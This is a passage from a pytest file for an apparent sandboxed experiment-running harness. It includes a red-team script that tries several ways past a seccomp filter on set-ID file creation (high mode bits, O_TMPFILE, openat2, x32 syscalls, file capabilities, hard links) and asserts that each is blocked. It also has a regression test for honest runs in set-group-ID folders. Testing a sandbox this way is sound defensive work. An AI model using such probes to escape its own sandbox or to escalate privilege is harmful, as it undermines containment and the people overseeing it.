            except OSError as exc:
                return -exc.errno
shutil.copy("/bin/true", "tool")
how = struct.pack("3Q", os.O_CREAT | os.O_WRONLY, 0o4755, 0)
tried = {
    "chmod high": call(90, b"tool", 0o4755 | 1 << 16 | 1 << 32),
    "openat high": call(257, -100, b"made", os.O_CREAT | os.O_WRONLY | 1 << 32, 0o2755 | 1 << 32),
    "openat O_TMPFILE": call(257, -100, b".", 0o20200000 | os.O_RDWR, 0o4755),
    "O_TMPFILE linked": unnamed(),
    "openat2": call(437, -100, b"made2", how, len(how)),
    "x32 chmod": x32(90, b"tool", 0o4755),
    "capability": capability(),
    "hard link": hard_link(),
}
left = [n for n in os.listdir(".") if os.lstat(n).st_mode & 0o6000 or os.listxattr(n, follow_symlinks=False)]
print("AROUND", json.dumps({"tried": tried, "left": left}), flush=True)
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the system calls' numbers are x86-64's")
def test_no_way_around_the_filter_leaves_a_set_id_file(lab) -> None:
    """Held (red team): each way around syscalls.SET_ID_CALLS tried leaves no set-ID file, nor one with file
    capabilities. The filter masks the mode's own bits (higher ones change nothing); an unnamed O_TMPFILE file is
    made with its mode as open's; openat2 answers ENOSYS; an x32 call kills its process (SIGSYS: libseccomp's
    filter refuses every architecture but the native one); the run has no CAP_SETFCAP (bwrap --cap-drop ALL); and a
    hard link to a set-ID program lies across mounts (EXDEV), were it allowed at all (protected_hardlinks)."""
    ws, loop = lab
    exp = loop.step(one_edit("get around the set-ID filter", [(START, START + inside(SET_ID_AROUND))]))
    log = run_log(ws, exp.id)
    assert "AROUND" in log, log
    around = json.loads(log.split("AROUND ", 1)[1].split("\n", 1)[0])
    assert around["left"] == [] and result_of(exp)["valid"], log
    refused = -errno.EPERM
    expected = {"chmod high": refused, "openat high": refused, "openat O_TMPFILE": refused}
    expected |= {"O_TMPFILE linked": [refused, 0], "openat2": -errno.ENOSYS, "x32 chmod": signal.SIGSYS}
    expected |= {"capability": refused, "hard link": -errno.EXDEV}
    assert around["tried"] == expected, log


# An honest run's copies of its own folders: shutil.copytree ends each with copystat, a chmod of the folder's mode.
COPIES = """
import os, shutil
for top in (".", os.environ["TORCHINDUCTOR_CACHE_DIR"]):
    os.makedirs(os.path.join(top, "kept", "inner"))
    try:
        shutil.copytree(os.path.join(top, "kept"), os.path.join(top, "copied"))
        print("COPIED", oct(os.stat(os.path.join(top, "kept")).st_mode & 0o7777), flush=True)
    except OSError as exc:
        print("NOT COPIED", exc, flush=True)
"""


def test_an_honest_run_copies_its_folders_in_a_set_group_id_workspace(lab) -> None:
    """BROKE (red team): in a workspace whose folders are set-group-ID (a group's shared folder), the box made in it
    was too, and so was every folder made in the box (the kernel passes the bit on to a new folder): copytree's
    chmod of each copy to its source's mode asked for S_ISGID, which the filter refuses (syscalls.SET_ID_CALLS), and
    an honest run failed. Fixed: the box is made without the bit (orphans.owned_box), nor are the folders in it."""
    ws, loop = lab
    mode = ws.state.stat().st_mode
    os.chmod(ws.state, mode | stat.S_ISGID)
    try:
        exp = loop.step(one_edit("copy a folder", [(START, START + inside(COPIES))]))
    finally:
        os.chmod(ws.state, stat.S_IMODE(mode))
    log = run_log(ws, exp.id)  # (a marginal win is run again: each run copies both folders)
    assert first_run_log(ws, exp.id).count("COPIED 0o755") == 2 and "NOT COPIED" not in log, log
    assert result_of(exp)["valid"], log
